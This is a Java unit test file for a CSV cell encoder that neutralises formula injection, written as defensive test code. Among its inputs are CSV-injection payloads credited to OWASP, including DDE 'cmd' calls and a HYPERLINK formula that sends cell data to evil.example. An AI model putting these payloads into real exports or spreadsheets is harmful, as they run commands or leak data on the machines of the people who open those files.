package io.remotebank.core.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellTest {

    /**
     * Payloads from OWASP's "CSV Injection" page (owasp.org/www-community/attacks/CSV_Injection),
     * including its two worked examples verbatim, and the classic DDE and exfiltration forms.
     */
    static Stream<Arguments> owaspPayloads() {
        return Stream.of(
                // OWASP's table: input, escaped output.
                Arguments.of("=1+2\";=1+2", "\"'=1+2\"\";=1+2\""),
                Arguments.of("=1+2'\" ;,=1+2", "\"'=1+2'\"\" ;,=1+2\""),
                // The DDE payload the tester used, and its relatives.
                Arguments.of("=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""),
                Arguments.of("+1+1", "\"'+1+1\""),
                Arguments.of("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
                Arguments.of("@SUM(A1)", "\"'@SUM(A1)\""),
                Arguments.of(
                        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""),
                // The whitespace and control characters OWASP and ASVS 1.2.10 list as first characters.
                Arguments.of("\t=1+1", "\"'\t=1+1\""),
                Arguments.of("\r=1+1", "\"'\r=1+1\""),
                Arguments.of("\n=1+1", "\"'\n=1+1\""),
                Arguments.of("\0=1+1", "\"'\0=1+1\""));
    }

    @ParameterizedTest
    @MethodSource("owaspPayloads")
    void text_neutralisesFormulas_asOwaspEscapesThem(String input, String escaped) {
        assertThat(CsvCell.startsFormula(input)).isTrue();
        assertThat(CsvCell.text(input)).isEqualTo(escaped);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "c-001|c-001",
                "张三|张三",
                "a,b|\"a,b\"",
                "say \"hi\"|\"say \"\"hi\"\"\"",
                "a;=1+2|\"a;=1+2\"", // a semicolon would start a new cell in a ;-separated locale
                "x=1+2|x=1+2" // a formula only starts a cell
            })
    void text_quotesOnlyWhatRfc4180AndTheSeparatorsNeed(String input, String encoded) {
        assertThat(CsvCell.text(input)).isEqualTo(encoded);
    }

    @ParameterizedTest
    @ValueSource(strings = {"29", "-7", "-1.5", "0.125", "1.0E-5", "-2.5E10", "6.02e+23"})
    void number_writtenByUs_staysANumber(String formatted) {
        assertThat(CsvCell.number(formatted)).isEqualTo(formatted);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "-Infinity|\"'-Infinity\"",
                "-1+1|\"'-1+1\"",
                "=1+1|\"'=1+1\"",
                "-|\"'-\"",
                "1.|1.",
                "-.5|\"'-.5\"",
                "1e|1e"
            })
    void number_thatIsNotAPlainNumber_isEncodedAsText(String formatted, String encoded) {
        assertThat(CsvCell.number(formatted)).isEqualTo(encoded);
    }

    @ParameterizedTest
    @ValueSource(strings = {"-12", "-1.5", "+8613812345678"})
    void text_thatLooksNumeric_isStillNeutralised_becauseItCameFromInput(String input) {
        assertThat(CsvCell.text(input)).isEqualTo("\"'" + input + "\"");
    }

    @ParameterizedTest
    @ValueSource(strings = {""})
    void emptyAndNull_areEmptyCells(String input) {
        assertThat(CsvCell.text(input)).isEmpty();
        assertThat(CsvCell.text(null)).isEmpty();
        assertThat(CsvCell.number(input)).isEmpty();
        assertThat(CsvCell.number(null)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {"id|=1+1|ok,fine|id,\"'=1+1\",\"ok,fine\""})
    void textRow_encodesEachCell(String a, String b, String c, String line) {
        List<String> cells = Arrays.asList(a, b, c);
        assertThat(CsvCell.textRow(cells)).isEqualTo(line);
    }

    @Test
    void guideExample_aTextCellANumberCellAndAnId() {
        // tag::csv-cell[]
        String line = CsvCell.text("=cmd|' /C calc'!A0") + "," + CsvCell.number("-1.5") + "," + CsvCell.text("c-001");
        // -> "'=cmd|' /C calc'!A0",-1.5,c-001
        // end::csv-cell[]
        assertThat(line).isEqualTo("\"'=cmd|' /C calc'!A0\",-1.5,c-001");
    }
}
